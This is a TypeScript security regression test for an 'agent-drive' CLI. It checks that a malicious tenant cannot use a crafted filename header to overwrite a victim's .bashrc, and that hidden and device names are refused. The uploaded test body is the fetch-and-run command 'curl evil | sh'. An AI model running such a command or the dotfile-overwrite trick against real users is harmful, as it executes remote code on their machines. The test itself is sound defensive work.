import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { driveClient, sqlOn, type DriveClient } from '../artifacts/client.js';
import { startTestApi, type TestApi } from '../helpers/api.js';
import { freshConfigHome, runCli } from '../helpers/cli.js';
import { grant } from '../sharing/helpers.js';

/**
 * Issue 54, finding 4: another tenant shares `report.md` sent with `X-Drive-Filename: .bashrc`; the victim's
 * `agent-drive get art_…` into a directory holding a `.bashrc` must not replace it. The server keeps no name that does
 * not map to the path, the CLI names the file by the server's download name, refuses hidden and device names, and
 * never replaces an existing file without --force.
 */
let api: TestApi;
let attacker: DriveClient;
let victim: DriveClient;
let env: Record<string, string>;

beforeAll(async () => {
  api = await startTestApi();
  attacker = await driveClient(api);
  victim = await driveClient(api);
  env = { XDG_CONFIG_HOME: freshConfigHome(), AGENT_DRIVE_URL: api.url, AGENT_DRIVE_API_KEY: victim.apiKey };
});
afterAll(async () => api?.close());

/** The attacker puts `path` (with X-Drive-Filename when given) and grants the victim viewer on it. */
async function shared(p: string, body: string, filename?: string) {
  const put = await attacker.put(p, body, filename ? { 'x-drive-filename': filename } : {});
  expect(put.status, put.bytes.toString()).toBe(200);
  const g = await grant(attacker, put.json.art_id, { type: 'user', email: victim.email }, 'viewer');
  expect(g.status, JSON.stringify(g.json)).toBe(201);
  return put.json as { art_id: string; filename: string | null };
}

describe('agent-drive get never writes a name the uploader chose over a local file', () => {
  it('in a scratch directory holding a .bashrc, get does not replace it', async () => {
    const home = mkdtempSync(path.join(tmpdir(), 'get-safety-'));
    const bashrc = path.join(home, '.bashrc');
    writeFileSync(bashrc, 'export PS1=mine\n');
    const get = (...args: string[]) => runCli(['get', ...args], env);

    // The server does not keep a name that does not map to the path's last segment.
    const report = await shared('report.md', 'curl evil | sh\n', '.bashrc');
    expect(report.filename).toBeNull();
    const first = await get(report.art_id, `${home}/`);
    expect(first.code, first.stderr).toBe(0);
    expect(readFileSync(path.join(home, 'report.md'), 'utf8')).toBe('curl evil | sh\n');
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1=mine\n');

    // A row kept before this rule (filename .bashrc on report.md): the CLI follows the server's download name.
    const legacy = await shared('legacy/report.md', 'legacy\n');
    await sqlOn(api, `update artifacts set filename = '.bashrc' where id = ?`, [legacy.art_id]);
    await sqlOn(api, `update artifact_versions set filename = '.bashrc' where art_id = ?`, [legacy.art_id]);
    const sub = mkdtempSync(path.join(home, 'legacy-'));
    writeFileSync(path.join(sub, '.bashrc'), 'mine too\n');
    expect((await get(legacy.art_id, sub)).code).toBe(0);
    expect(readFileSync(path.join(sub, 'report.md'), 'utf8')).toBe('legacy\n');
    expect(readFileSync(path.join(sub, '.bashrc'), 'utf8')).toBe('mine too\n');

    // A path that is itself hidden, or a device name, is refused (usage, exit 2) unless a local name is given.
    const hidden = await shared('.bashrc', 'hidden\n');
    const refused = await get(hidden.art_id, `${home}/`);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('hidden file');
    for (const device of ['NUL.txt', 'con']) {
      const d = await shared(device, 'device\n');
      const r = await get(d.art_id, `${home}/`);
      expect(r.code, device).toBe(2);
      expect(r.stderr).toContain('device name');
    }
    expect((await get(hidden.art_id, path.join(home, 'hidden.txt'))).code).toBe(0);
    expect(readFileSync(path.join(home, 'hidden.txt'), 'utf8')).toBe('hidden\n');

    // An existing file is kept (exit 4, conflict), whether named by the server or given; --force replaces it.
    writeFileSync(path.join(home, 'report.md'), 'edited locally\n');
    const again = await get(report.art_id, `${home}/`);
    expect(again.code).toBe(4);
    expect(again.stderr).toContain('not replaced');
    expect((await get(report.art_id, bashrc)).code).toBe(4);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1=mine\n');
    expect(readFileSync(path.join(home, 'report.md'), 'utf8')).toBe('edited locally\n');
    expect((await get(report.art_id, `${home}/`, '--force')).code).toBe(0);
    expect(readFileSync(path.join(home, 'report.md'), 'utf8')).toBe('curl evil | sh\n');
    // The temporary files are gone.
    expect(readdirSync(home).filter((f) => f.endsWith('.part'))).toEqual([]);
  });
});
